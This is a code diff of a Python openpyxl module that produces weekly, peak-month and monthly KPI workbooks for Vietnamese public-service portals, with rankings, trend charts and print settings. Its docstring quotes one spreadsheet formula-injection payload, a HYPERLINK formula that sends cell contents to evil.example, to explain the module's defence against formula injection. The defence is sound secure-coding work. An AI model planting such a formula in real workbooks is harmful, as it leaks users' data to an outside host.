@@ -1,6 +1,10 @@
 """Excel workbooks from the report models (openpyxl), with the same band colours as the HTML.
 
-Rates are written as numbers with a percent format (so they sort and sum), never as text.
+Rates are written as numbers with a percent format (so they sort and sum), never as text,
+rounded by the HTML's rule first (`labels.rounded_rate`, half away from zero) so both print the
+same figure. Every sheet is print-ready: A4 landscape, fit to the page width, the header rows
+repeated on every page, frozen panes; the one-page summary ("Tổng hợp") fits one page; the
+trend is a native Excel line chart (openpyxl.chart), not a picture.
 
 Text is never a formula: unit and procedure names, codes and every other string come from the
 portals, and a name such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` would be a live
@@ -15,21 +19,27 @@ from __future__ import annotations
 
 import io
 from collections.abc import Iterable, Sequence
+from datetime import timedelta
 from functools import cache
 
 from openpyxl import Workbook
+from openpyxl.chart import LineChart, Reference
 from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
 from openpyxl.utils import get_column_letter
 from openpyxl.worksheet.worksheet import Worksheet
 
+from kpi_pipeline.domain.score_766 import load_score_config
+from kpi_pipeline.reports import indicators_labels as IL
 from kpi_pipeline.reports import labels as L
+from kpi_pipeline.reports.indicators_model import MonthlyReportData
 from kpi_pipeline.reports.model import (
-    BAND_ORDER,
+    LOW_VOLUME,
     PeakMonthReportData,
     ProvinceMap,
     UnitRow,
     WeeklyReportData,
 )
+from kpi_pipeline.reports.summary import Ranked, Summary, weekly_summary
 
 PCT = "0.0%"
 HEADER_FILL = PatternFill("solid", fgColor="DDE3EA")
@@ -47,6 +57,23 @@ SHEET_UNITS = "Đơn vị"
 SHEET_HEATMAP = "Bản đồ nhiệt"
 SHEET_RED = "Chi tiết đơn vị đỏ"
 SHEET_MAP = "Bản đồ"
+SHEET_LATE_SUBJECTIVE = "Trễ hạn do chủ quan"
+SHEET_PAYMENT = "Chi tiết thanh toán"
+SHEET_TREND = "Xu hướng"
+SHEET_RANKINGS = "Xếp hạng"
+PP = '+0.0" điểm %";-0.0" điểm %";0.0" điểm %"'  # a change of rate, in percentage points
+
+
+def rate(value: float | None) -> float | None:
+    """A rate as the workbook stores it: rounded by the one rule the HTML prints with."""
+    r = L.rounded_rate(value)
+    return None if r is None else float(r)
+
+
+def change_points(value: float | None) -> float | None:
+    """A change of rate in percentage points (5.2 = +5,2 điểm %), rounded as `rate`."""
+    r = L.rounded_rate(value)
+    return None if r is None else float(r * 100)
 
 
 @cache
@@ -58,12 +85,20 @@ def weekly_xlsx(data: WeeklyReportData, map_png: bytes | None = None) -> bytes:
     """The Friday workbook; with a map in the model, a "Bản đồ" sheet too (its points and the
     units not on it, and the map image `map_png` when given)."""
     wb = Workbook()
-    _weekly_summary(wb.active, data)
-    _weekly_units(wb.create_sheet(SHEET_UNITS), data.units)
+    summary = weekly_summary(data)
+    _weekly_summary(wb.active, data, summary)
+    _weekly_units(wb.create_sheet(SHEET_UNITS), data.units, two_tier=data.two_tier)
+    _weekly_trend(wb.create_sheet(SHEET_TREND), data)
     _weekly_heatmap(wb.create_sheet(SHEET_HEATMAP), data)
     _weekly_red(wb.create_sheet(SHEET_RED), data)
+    _weekly_rankings(wb.create_sheet(SHEET_RANKINGS), summary)
     if data.map is not None:
         _weekly_map(wb.create_sheet(SHEET_MAP), data.map, map_png)
+    if data.indicators is not None:
+        _weekly_late_subjective(wb.create_sheet(SHEET_LATE_SUBJECTIVE), data)
+        _weekly_payment_drilldown(wb.create_sheet(SHEET_PAYMENT), data)
+    for ws in wb.worksheets:
+        _print_ready(ws, one_page=ws.title == SHEET_SUMMARY)
     return _save(wb, f"Báo cáo tuần {L.day(data.week_start)} – {L.day(data.week_end)}")
 
 
@@ -73,6 +108,8 @@ def peak_month_xlsx(data: PeakMonthReportData) -> bytes:
     ws.title = SHEET_SUMMARY
     _title(ws, "Báo cáo kết thúc tháng cao điểm", L.month_label(data.month), data)
     ws.append([f"So sánh với tháng cao điểm trước: {L.month_label(data.previous_month)}"])
+    if data.comparison_on_current_map:
+        ws.append([L.COMPARISON_ON_CURRENT_MAP])
     ws.append([])
     summary = data.summary()
     prev_label = L.month_label(data.previous_month)
@@ -89,7 +126,7 @@ def peak_month_xlsx(data: PeakMonthReportData) -> bytes:
     )
     p = data.province
     rows = [
-        (L.PEAK_TARGET_TEXT["online"], p.online_rate, PCT, p.online_target, "online"),
+        (L.PEAK_TARGET_TEXT["online"], rate(p.online_rate), PCT, p.online_target, "online"),
         (L.PEAK_TARGET_TEXT["late"], p.late_subjective, "0", p.late_target, "late"),
     ]
     for text, value, fmt, status, key in rows:
@@ -150,9 +187,9 @@ def peak_month_xlsx(data: PeakMonthReportData) -> bytes:
                 L.LEVEL_LABELS.get(u.unit_level, u.unit_level),
                 u.online_eligible,
                 u.online_eligible_received_online,
-                u.online_rate,
-                b.online_rate if b else None,
-                None if change is None else round(change * 100, 1),
+                rate(u.online_rate),
+                rate(b.online_rate) if b else None,
+                change_points(change),
                 L.PEAK_STATUS_LABELS[u.online_target],
                 u.finished,
                 u.finished_late,
@@ -171,13 +208,17 @@ def peak_month_xlsx(data: PeakMonthReportData) -> bytes:
         for col, status in ((9, u.online_target), (15, u.late_target), (16, u.overall)):
             us.cell(r, col).fill = band_fill(STATUS_BANDS[status])
     _finish_table(us, [12, 40, 16, 16, 14, 12, 14, 12, 14, 12, 10, 14, 14, 10, 14, 14])
+    for sheet in wb.worksheets:
+        _print_ready(sheet, one_page=sheet.title == SHEET_SUMMARY)
     return _save(wb, f"Báo cáo kết thúc tháng cao điểm {L.month_label(data.month)}")
 
 
 # -- weekly sheets ---------------------------------------------------------------------------
 
 
-def _weekly_summary(ws: Worksheet, data: WeeklyReportData) -> None:
+def _weekly_summary(ws: Worksheet, data: WeeklyReportData, s: Summary) -> None:
+    """The one-page summary (reports/summary.py): headline KPIs with their changes, units per
+    band, the ten units furthest short of the targets on the left; the rankings on the right."""
     ws.title = SHEET_SUMMARY
     _title(
         ws,
@@ -186,56 +227,156 @@ def _weekly_summary(ws: Worksheet, data: WeeklyReportData) -> None:
         data,
     )
     ws.append([])
-    _header_row(ws, ["Chỉ số toàn tỉnh", "Tỷ lệ", "Mục tiêu", "Xếp loại", "Tử số", "Mẫu số"])
-    p = data.province
-    for key, rate, band, num, den in (
-        ("on_time", p.on_time_rate, p.on_time_band, p.finished_on_time, p.finished),
-        (
-            "online",
-            p.online_rate,
-            p.online_band,
-            p.online_eligible_received_online,
-            p.online_eligible,
-        ),
-        (
-            "online_payment",
-            p.online_payment_rate,
-            p.online_payment_band,
-            p.paid_online,
-            p.payment_eligible,
-        ),
-    ):
-        ws.append([L.KPI_LABELS[key], rate, L.KPI_TARGET_TEXT[key], L.BAND_LABELS[band], num, den])
-        ws.cell(ws.max_row, 2).number_format = PCT
-        ws.cell(ws.max_row, 4).fill = band_fill(band)
-    ws.append(
-        [L.KPI_LABELS["digitisation"], p.digitisation_rate, None, None, p.digitised, p.received]
+    week = f"So với tuần trước ({L.day_month(s.last_week_start)})" if s.last_week_start else ""
+    year = f"So với cùng kỳ năm trước ({L.day(s.last_year_start)})" if s.last_year_start else ""
+    _header_row(
+        ws, ["Chỉ số toàn tỉnh", "Tỷ lệ", "Mục tiêu", "Xếp loại", week, year, "Tử số", "Mẫu số"]
     )
+    for h in s.headline:
+        ws.append(
+            [
+                L.KPI_LABELS[h.kpi],
+                rate(h.rate),
+                L.KPI_TARGET_TEXT[h.kpi],
+                L.BAND_LABELS[h.band],
+                change_points(h.change_week),
+                change_points(h.change_year),
+                h.numerator,
+                h.denominator,
+            ]
+        )
+        r = ws.max_row
+        ws.cell(r, 2).number_format = PCT
+        ws.cell(r, 4).fill = band_fill(h.band)
+        ws.cell(r, 5).number_format = ws.cell(r, 6).number_format = PP
+    p = data.province
+    ws.append(
+        [L.KPI_LABELS["digitisation"], rate(p.digitisation_rate), None, None, None, None,
+         p.digitised, p.received]
+    )  # fmt: skip
     ws.cell(ws.max_row, 2).number_format = PCT
     ws.append(["Hồ sơ quá hạn chưa giải quyết", p.overdue_open])
     ws.append([])
+    ws.append(["Số đơn vị theo xếp loại chung"])
+    ws.cell(ws.max_row, 1).font = BOLD
+    bands = ["red", "orange", "yellow", "green", LOW_VOLUME, None]
+    ws.append([L.BAND_LABELS[b] for b in bands])
+    for i, b in enumerate(bands, start=1):
+        ws.cell(ws.max_row, i).fill = band_fill(b)
+        ws.cell(ws.max_row, i).alignment = CENTER
+    ws.append([s.band_counts[b] for b in bands])
+    ws.append(
+        [f"{s.low_volume} đơn vị ít hồ sơ (dưới {data.min_volume} hồ sơ ở mỗi chỉ số): không"
+         " xếp loại, không tính vào xếp hạng và cảnh báo."]
+    )  # fmt: skip
+    ws.append([])
+    ws.append(["10 đơn vị kéo giảm chỉ số toàn tỉnh nhiều nhất (số hồ sơ thiếu so với mục tiêu)"])
+    ws.cell(ws.max_row, 1).font = BOLD
+    _header_row(ws, ["Đơn vị", "Cấp", "Đúng hạn", "Trực tuyến", "Thanh toán TT", "Tổng"])
+    for x in s.pulling_down:
+        ws.append(
+            [
+                x.unit.unit_name,
+                L.LEVEL_LABELS.get(x.unit.unit_level, x.unit.unit_level),
+                *(x.short[k] for k in ("on_time", "online", "online_payment")),
+                x.total,
+            ]
+        )
+    # the rankings, to the right (columns J..O)
+    row = 5
+    for title, ranked in (
+        ("Xếp hạng các sở, ban, ngành", s.departments),
+        (
+            "Xếp hạng các xã, phường"
+            if s.localities_level == "XA"
+            else "Xếp hạng các huyện, thị xã, thành phố (toàn huyện)",
+            s.localities,
+        ),
+    ):
+        shown = Summary.shown(ranked)
+        if len(shown) < len(ranked):
+            title += f" ({len(shown) // 2} đầu, {len(shown) // 2} cuối trong {len(ranked)})"
+        ws.cell(row, 10, title).font = BOLD
+        row += 1
+        for i, h in enumerate(["Hạng", "Đơn vị", "Xếp loại", "Đúng hạn", "Trực tuyến", "TT TT"]):
+            c = ws.cell(row, 10 + i, h)
+            c.font, c.fill, c.border, c.alignment = BOLD, HEADER_FILL, BORDER, HEADER_ALIGNMENT
+        row += 1
+        for x in shown:
+            _ranked_cells(ws, row, 10, x)
+            row += 1
+        row += 1
+    _widths(ws, [34, 9, 11, 9, 12, 12, 9, 9, 2, 6, 30, 10, 9, 9, 9])
+
+
+def _ranked_cells(ws: Worksheet, row: int, col: int, x: Ranked, met: bool = False) -> None:
+    u = x.unit
+    values = [x.rank, u.unit_name, L.BAND_LABELS[x.band]]
+    values += [
+        L.BAND_LABELS[LOW_VOLUME]
+        if u.shown_band(k) == LOW_VOLUME
+        else rate(getattr(u, f"{k}_rate"))
+        for k in ("on_time", "online", "online_payment")
+    ]
+    if met:
+        values.append(x.met)
+    for i, v in enumerate(values):
+        c = ws.cell(row, col + i, v)
+        if 3 <= i <= 5 and isinstance(v, float):
+            c.number_format = PCT
+    ws.cell(row, col + 2).fill = band_fill(x.band)
+
+
+def _weekly_trend(ws: Worksheet, data: WeeklyReportData) -> None:
+    """The province's 12-week trend: the table and a native line chart of it."""
     _header_row(
         ws,
         [
-            "Xu hướng 12 tuần (tuần bắt đầu)",
+            "Tuần (bắt đầu)",
             L.KPI_LABELS["on_time"],
             L.KPI_LABELS["online"],
             L.KPI_LABELS["online_payment"],
         ],
     )
     for t in data.trend:
-        ws.append([t.week_start, t.on_time_rate, t.online_rate, t.online_payment_rate])
-        ws.cell(ws.max_row, 1).number_format = "DD/MM/YYYY"
+        ws.append([L.day_month(t.week_start), rate(t.on_time_rate), rate(t.online_rate),
+                   rate(t.online_payment_rate)])  # fmt: skip
         for col in (2, 3, 4):
             ws.cell(ws.max_row, col).number_format = PCT
+    last = ws.max_row
+    _finish_table(ws, [16, 26, 26, 26], filter_=False)
+    ws.freeze_panes = "B2"
     if data.trend_on_current_map:
-        ws.append([L.TREND_ON_CURRENT_MAP])
-    ws.append([])
-    _header_row(ws, ["Xếp loại chung", "Số đơn vị"])
-    for band, n in sorted(data.band_counts().items(), key=lambda kv: BAND_ORDER[kv[0]]):
-        ws.append([L.BAND_LABELS[band], n])
-        ws.cell(ws.max_row, 1).fill = band_fill(band)
-    _widths(ws, [44, 26, 26, 26, 12, 12])
+        ws.cell(last + 2, 1, L.TREND_ON_CURRENT_MAP)
+    chart = LineChart()
+    chart.title = f"Xu hướng 12 tuần đến tuần {L.day(data.week_start)} — {data.province_name}"
+    chart.y_axis.title = "Tỷ lệ"
+    chart.y_axis.number_format = "0%"
+    chart.y_axis.scaling.min = 0
+    chart.y_axis.scaling.max = 1
+    chart.x_axis.title = "Tuần bắt đầu"
+    chart.height, chart.width = 9, 22
+    chart.add_data(
+        Reference(ws, min_col=2, max_col=4, min_row=1, max_row=last), titles_from_data=True
+    )
+    chart.set_categories(Reference(ws, min_col=1, min_row=2, max_row=last))
+    ws.add_chart(chart, "F2")
+
+
+def _weekly_rankings(ws: Worksheet, s: Summary) -> None:
+    """The whole rankings (the summary shows the best and worst five)."""
+    _header_row(ws, ["Hạng", "Đơn vị", "Xếp loại", "Đúng hạn", "Trực tuyến", "Thanh toán TT",
+                     "Số chỉ số đạt", "Nhóm"])  # fmt: skip
+    row = 2
+    for group, ranked in (
+        ("Sở, ban, ngành", s.departments),
+        ("Xã, phường" if s.localities_level == "XA" else "Huyện (toàn huyện)", s.localities),
+    ):
+        for x in ranked:
+            _ranked_cells(ws, row, 1, x, met=True)
+            ws.cell(row, 8, group)
+            row += 1
+    _finish_table(ws, [8, 40, 12, 12, 12, 14, 12, 22])
 
 
 UNIT_COLUMNS = [
@@ -260,12 +401,15 @@ UNIT_COLUMNS = [
     ("Quá hạn chưa giải quyết", 12),
     ("Xếp loại chung", 16),
 ]
+ROLLUP_COLUMN = ("Toàn huyện (gồm các xã)", 16)
 
 
-def _weekly_units(ws: Worksheet, units: Iterable[UnitRow]) -> None:
-    _header_row(ws, [c for c, _ in UNIT_COLUMNS])
+def _weekly_units(ws: Worksheet, units: Iterable[UnitRow], two_tier: bool = False) -> None:
+    columns = UNIT_COLUMNS + ([] if two_tier else [ROLLUP_COLUMN])
+    _header_row(ws, [c for c, _ in columns])
     r = ws.max_row
     for u in units:
+        shown = {k: u.shown_band(k) for k in ("on_time", "online", "online_payment")}
         ws.append(
             [
                 u.unit_code,
@@ -275,33 +419,40 @@ def _weekly_units(ws: Worksheet, units: Iterable[UnitRow]) -> None:
                 u.received,
                 u.finished,
                 u.finished_on_time,
-                u.on_time_rate,
-                L.BAND_LABELS[u.on_time_band],
+                rate(u.on_time_rate),
+                L.BAND_LABELS[shown["on_time"]],
                 u.online_eligible,
                 u.online_eligible_received_online,
-                u.online_rate,
-                L.BAND_LABELS[u.online_band],
+                rate(u.online_rate),
+                L.BAND_LABELS[shown["online"]],
                 u.payment_eligible,
                 u.paid_online,
-                u.online_payment_rate,
-                L.BAND_LABELS[u.online_payment_band],
-                u.digitisation_rate,
+                rate(u.online_payment_rate),
+                L.BAND_LABELS[shown["online_payment"]],
+                rate(u.digitisation_rate),
                 u.overdue_open,
-                L.BAND_LABELS[u.overall_band],
+                L.BAND_LABELS[u.shown_overall],
+                *(
+                    []
+                    if two_tier
+                    else [L.BAND_LABELS[u.rollup.shown_overall] if u.rollup else None]
+                ),
             ]
         )
         r += 1
         for col in (8, 12, 16, 18):
             ws.cell(r, col).number_format = PCT
         for cols, band in (
-            ((8, 9), u.on_time_band),
-            ((12, 13), u.online_band),
-            ((16, 17), u.online_payment_band),
-            ((20,), u.overall_band),
+            ((8, 9), shown["on_time"]),
+            ((12, 13), shown["online"]),
+            ((16, 17), shown["online_payment"]),
+            ((20,), u.shown_overall),
         ):
             for col in cols:
                 ws.cell(r, col).fill = band_fill(band)
-    _finish_table(ws, [w for _, w in UNIT_COLUMNS])
+        if u.rollup is not None and not two_tier:
+            ws.cell(r, 21).fill = band_fill(u.rollup.shown_overall)
+    _finish_table(ws, [w for _, w in columns])
 
 
 def _weekly_heatmap(ws: Worksheet, data: WeeklyReportData) -> None:
@@ -425,6 +576,257 @@ def _weekly_map(ws: Worksheet, m: ProvinceMap, png: bytes | None) -> None:
         ws.add_image(image, "J2")
 
 
+# -- indicator sheets (issue 15) -------------------------------------------------------------
+
+
+def _weekly_late_subjective(ws: Worksheet, data: WeeklyReportData) -> None:
+    ind = data.indicators
+    _header_row(
+        ws, ["Mã đơn vị", "Đơn vị", "Cấp", "Trễ hạn do chủ quan", "Trễ hạn", "Đã giải quyết"]
+    )
+    p = data.province
+    ws.append(
+        [
+            p.unit_code,
+            f"Toàn {data.tier}",
+            L.LEVEL_LABELS.get(p.unit_level, p.unit_level),
+            ind.province_late_subjective,
+            ind.province_finished_late,
+            ind.province_finished,
+        ]
+    )
+    for c in ws[ws.max_row]:
+        c.font = BOLD
+    for u in ind.late_subjective:
+        ws.append(
+            [
+                u.unit_code,
+                u.unit_name,
+                L.LEVEL_LABELS.get(u.unit_level, u.unit_level),
+                u.late_subjective,
+                u.finished_late,
+                u.finished,
+            ]
+        )
+    _finish_table(ws, [14, 40, 16, 18, 12, 14])
+
+
+def _weekly_payment_drilldown(ws: Worksheet, data: WeeklyReportData) -> None:
+    _header_row(
+        ws,
+        [
+            "Mã đơn vị",
+            "Đơn vị",
+            "Nội dung",
+            "Mã thủ tục / hồ sơ",
+            "Thủ tục",
+            "Chưa thanh toán trực tuyến / ngày tiếp nhận",
+            "Có thể thanh toán trực tuyến / hình thức (cổng tỉnh)",
+            "Giao dịch cổng quốc gia",
+        ],
+    )
+    drilldowns = data.indicators.payment_drilldowns
+    if not drilldowns:
+        ws.append(["", "Không có đơn vị có tỷ lệ thanh toán trực tuyến xếp loại Đỏ trong tuần."])
+    for d in drilldowns:
+        for p in d.procedures:
+            ws.append(
+                [d.unit_code, d.unit_name, "Thủ tục", p.procedure_code, p.procedure_name]
+                + [p.count, p.total]
+            )
+        for o in d.dossiers:
+            ws.append(
+                [
+                    d.unit_code,
+                    d.unit_name,
+                    "Hồ sơ chưa thanh toán trực tuyến",
+                    o.ma_ho_so,
+                    o.procedure_name,
+                    L.day(o.received_at),
+                    o.provincial_method,
+                    o.national_status or "không có giao dịch",
+                ]
+            )
+        ws.append(
+            [d.unit_code, d.unit_name, "Tổng số hồ sơ chưa thanh toán trực tuyến", None, None]
+            + [d.dossiers_total]
+        )
+    _finish_table(ws, [12, 32, 34, 26, 50, 18, 22, 22])
+
+
+# -- the monthly workbook (issue 15) -----------------------------------------------------------
+
+SHEET_PERIODS = "Kỳ và cùng kỳ"
+SHEET_SCORE = "Điểm 766 (dự án)"
+SHEET_FIELDS = "Lĩnh vực"
+SHEET_CATALOGUE = "Danh mục thủ tục"
+SCORE_FORMAT = "0.00"
+
+
+def monthly_xlsx(data: MonthlyReportData) -> bytes:
+    """The monthly workbook: periods against the year before, the 766-style score, fields."""
+    wb = Workbook()
+    ws = wb.active
+    ws.title = SHEET_PERIODS
+    _monthly_periods(ws, data)
+    _monthly_score(wb.create_sheet(SHEET_SCORE), data)
+    _monthly_fields(wb.create_sheet(SHEET_FIELDS), data)
+    _monthly_catalogue(wb.create_sheet(SHEET_CATALOGUE), data)
+    return _save(wb, f"Báo cáo {L.month_label(data.month).lower()}")
+
+
+def _monthly_periods(ws: Worksheet, data: MonthlyReportData) -> None:
+    _header_row(
+        ws,
+        [
+            "Kỳ",
+            "Từ ngày",
+            "Đến hết ngày",
+            "Tiếp nhận",
+            "Đã giải quyết",
+            L.KPI_LABELS["on_time"],
+            L.KPI_LABELS["online"],
+            L.KPI_LABELS["online_payment"],
+            L.KPI_LABELS["digitisation"],
+            "Trễ hạn do chủ quan",
+            "Quá hạn cuối kỳ",
+            "Địa giới",
+        ],
+    )
+    for c in data.comparisons:
+        for f, prefix in ((c.current, IL.KIND_TITLES[c.kind] + ": "), (c.previous, "Cùng kỳ: ")):
+            if f is None:
+                ws.append([f"{prefix}{IL.NO_PREVIOUS}"])
+                continue
+            ws.append(
+                [
+                    prefix + f.label,
+                    L.day(f.start),
+                    L.day(f.end - timedelta(days=1)),
+                    f.received,
+                    f.finished,
+                    f.on_time_rate,
+                    f.online_rate,
+                    f.online_payment_rate,
+                    f.digitisation_rate,
+                    f.finished_late_subjective,
+                    f.overdue_open,
+                    "hiện nay" if c.on_current_map else "từng kỳ",
+                ]
+            )
+            row = ws.max_row
+            for col, band in ((6, f.on_time_band), (7, f.online_band), (8, f.online_payment_band)):
+                ws.cell(row, col).fill = band_fill(band)
+            for col in (6, 7, 8, 9):
+                ws.cell(row, col).number_format = PCT
+    _finish_table(ws, [40, 12, 12, 12, 12, 14, 14, 14, 14, 14, 14, 12], filter_=False)
+
+
+def _monthly_score(ws: Worksheet, data: MonthlyReportData) -> None:
+    _header_row(
+        ws,
+        [
+            "Mã đơn vị",
+            "Đơn vị",
+            "Điểm dự án (thang 100)",
+            "Điểm đạt",
+            "Điểm tối đa",
+            "Cổng QG: đúng hạn %",
+            "Cổng QG: trực tuyến %",
+            "Cổng QG: thanh toán %",
+            "Điểm dự án trên chỉ số so sánh",
+            "Điểm theo số liệu Cổng QG",
+            "Chênh lệch",
+        ],
+    )
+    rows = ([data.score_province] if data.score_province else []) + list(data.scores)
+    for s in rows:
+        ws.append(
+            [
+                s.unit_code,
+                s.unit_name,
+                s.score,
+                s.score_points,
+                s.max_points,
+                s.national_on_time_pct,
+                s.national_online_pct,
+                s.national_online_payment_pct,
+                s.own_compared_points,
+                s.national_compared_points,
+                s.diff_points,
+            ]
+        )
+        for col in (3, 4, 5, 9, 10, 11):
+            ws.cell(ws.max_row, col).number_format = SCORE_FORMAT
+    _finish_table(ws, [14, 36, 14, 10, 10, 12, 12, 12, 14, 14, 12])
+    ws.append([None])
+    ws.append([IL.SCORE_TITLE])
+    ws.cell(ws.max_row, 1).font = BOLD
+    for line in IL.score_note(load_score_config()):
+        ws.append([line])
+
+
+def _monthly_fields(ws: Worksheet, data: MonthlyReportData) -> None:
+    _header_row(
+        ws,
+        [
+            "Mã đơn vị",
+            "Đơn vị",
+            "Mã lĩnh vực",
+            "Lĩnh vực",
+            "Tiếp nhận",
+            "Đã giải quyết",
+            L.KPI_LABELS["on_time"],
+            L.KPI_LABELS["online"],
+        ],
+    )
+    for f in data.fields:
+        ws.append(
+            [
+                f.unit_code,
+                f.unit_name,
+                f.field_code,
+                f.field_name or IL.NO_FIELD,
+                f.received,
+                f.finished,
+                f.on_time_rate,
+                f.online_rate,
+            ]
+        )
+        for col, band in ((7, f.on_time_band), (8, f.online_band)):
+            ws.cell(ws.max_row, col).fill = band_fill(band)
+            ws.cell(ws.max_row, col).number_format = PCT
+    _finish_table(ws, [14, 32, 14, 40, 12, 12, 14, 14])
+
+
+def _monthly_catalogue(ws: Worksheet, data: MonthlyReportData) -> None:
+    _header_row(
+        ws,
+        [
+            "Cấp thực hiện",
+            "Thủ tục trong danh mục",
+            "Toàn trình / mức độ 4",
+            "Tỷ lệ",
+            "Mức độ 3, 4 đã tích hợp Cổng quốc gia",
+        ],
+    )
+    for c in data.catalogue:
+        ws.append(
+            [
+                IL.CATALOGUE_LEVELS.get(c.unit_level, c.unit_level),
+                c.procedures,
+                c.procedures_level4,
+                c.level4_share,
+                c.procedures_online_eligible,
+            ]
+        )
+        ws.cell(ws.max_row, 4).fill = band_fill(c.level4_band)
+        ws.cell(ws.max_row, 4).number_format = PCT
+    _finish_table(ws, [24, 14, 14, 12, 18], filter_=False)
+    ws.append([None])
+    ws.append([IL.CATALOGUE_NOTE])
+
+
 # -- helpers ---------------------------------------------------------------------------------
 
 
@@ -459,6 +861,23 @@ def _finish_table(ws: Worksheet, widths: Sequence[int], filter_: bool = True) ->
     ws.row_dimensions[1].height = 45
     if filter_ and ws.max_row > 1:
         ws.auto_filter.ref = ws.dimensions
+
+
+def _print_ready(ws: Worksheet, one_page: bool = False) -> None:
+    """A4 landscape, fit to the page width (and height, for the one-page summary), the first
+    row repeated on every page of a table, centred, with page numbers in the footer."""
+    ws.page_setup.paperSize = ws.PAPERSIZE_A4
+    ws.page_setup.orientation = ws.ORIENTATION_LANDSCAPE
+    ws.sheet_properties.pageSetUpPr.fitToPage = True
+    ws.page_setup.fitToWidth = 1
+    ws.page_setup.fitToHeight = 1 if one_page else 0  # 0: as many pages tall as needed
+    ws.page_margins.left = ws.page_margins.right = 0.4
+    ws.page_margins.top = ws.page_margins.bottom = 0.5
+    ws.print_options.horizontalCentered = True
+    if not one_page:
+        ws.print_title_rows = "1:1"
+    ws.oddFooter.center.text = "Trang &P / &N"
+    ws.oddFooter.right.text = "&A"
 
 
 FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
